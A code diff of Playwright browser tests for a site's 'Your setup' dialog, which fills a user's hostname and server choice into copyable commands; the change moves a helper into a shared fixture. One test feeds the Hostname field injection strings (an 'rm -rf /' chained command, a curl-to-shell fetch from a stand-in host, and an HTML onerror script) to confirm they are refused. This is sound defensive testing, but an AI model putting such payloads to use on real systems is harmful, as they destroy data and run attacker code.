@@ -1,18 +1,10 @@
-import { expect, test, type Page } from './fixtures/test';
-
-/** Opens "Your setup" from a code block's "use yours" button. */
-async function openSetup(page: Page) {
-	await page.locator('[data-open-setup]').first().click();
-	const dialog = page.getByRole('dialog', { name: 'Your setup' });
-	await expect(dialog).toBeVisible();
-	return dialog;
-}
+import { expect, test } from './fixtures/test';
 
 test.describe('your setup', () => {
-	test('values set on one page fill the copied commands on another', async ({ page, context }) => {
+	test('values set on one page fill the copied commands on another', async ({ page, context, codePage }) => {
 		await context.grantPermissions(['clipboard-read', 'clipboard-write']);
 		await page.goto('/521/');
-		const dialog = await openSetup(page);
+		const dialog = await codePage.openSetup();
 		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
 		await dialog.getByRole('textbox', { name: 'Origin IPv4 address' }).fill('198.51.100.7');
 		await dialog.getByRole('button', { name: 'Save' }).click();
@@ -30,14 +22,14 @@ test.describe('your setup', () => {
 		expect(copied).not.toContain('203.0.113.10');
 	});
 
-	test('refuses values that would change a command, and shows them only as text', async ({ page }) => {
+	test('refuses values that would change a command, and shows them only as text', async ({ page, codePage }) => {
 		const dialogs: string[] = [];
 		page.on('dialog', (d) => {
 			dialogs.push(d.message());
 			void d.dismiss();
 		});
 		await page.goto('/521/');
-		const dialog = await openSetup(page);
+		const dialog = await codePage.openSetup();
 		const hostname = dialog.getByRole('textbox', { name: 'Hostname' });
 		for (const evil of ['example.com; rm -rf /', '$(curl -s evil.example | sh)', '<img src=x onerror=alert(1)>']) {
 			await hostname.fill(evil);
@@ -53,26 +45,26 @@ test.describe('your setup', () => {
 		expect(dialogs).toEqual([]);
 	});
 
-	test('the stack chosen in the setup opens every set of tabs on it', async ({ page }) => {
+	test('the stack chosen in the setup opens every set of tabs on it', async ({ page, codePage }) => {
 		await page.goto('/521/');
-		const dialog = await openSetup(page);
+		const dialog = await codePage.openSetup();
 		await dialog.getByRole('combobox', { name: 'Web server' }).selectOption('apache');
 		await dialog.getByRole('button', { name: 'Save' }).click();
-		const tabs = page.locator('stack-tabs[data-sync="webserver"]').first();
+		const tabs = codePage.stackTabs();
 		await tabs.scrollIntoViewIfNeeded();
 		await expect(tabs.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');
 		await page.goto('/520/');
-		const other = page.locator('stack-tabs[data-sync="webserver"]').first();
+		const other = codePage.stackTabs();
 		await other.scrollIntoViewIfNeeded();
 		await expect(other.getByRole('tab', { name: 'Apache' })).toHaveAttribute('aria-selected', 'true');
 	});
 
-	test('clears everything with one action', async ({ page }) => {
+	test('clears everything with one action', async ({ page, codePage }) => {
 		await page.goto('/521/');
-		let dialog = await openSetup(page);
+		let dialog = await codePage.openSetup();
 		await dialog.getByRole('textbox', { name: 'Hostname' }).fill('shop.example.net');
 		await dialog.getByRole('button', { name: 'Save' }).click();
-		dialog = await openSetup(page);
+		dialog = await codePage.openSetup();
 		await dialog.getByRole('button', { name: 'Clear everything' }).click();
 		await expect(dialog.getByRole('status')).toContainText('Cleared');
 		expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k === 'setup' || k.startsWith('stack:')))).toEqual([]);
@@ -106,7 +98,7 @@ test.describe('the message to your host', () => {
 	test('at a troubleshooter outcome, lists the answers given so far', async ({ wizard }) => {
 		await wizard.goto();
 		const outcome = (await wizard.stepIds('outcome'))[0]!;
-		for (const answer of await wizard.routeTo(outcome)) await wizard.choose(answer);
+		await wizard.walkTo(outcome);
 		await wizard.expectAt(outcome);
 		await wizard.currentStep.getByText(/Write the message to/).click();
 		const checked = wizard.currentStep.getByRole('textbox', { name: /checked already/ });
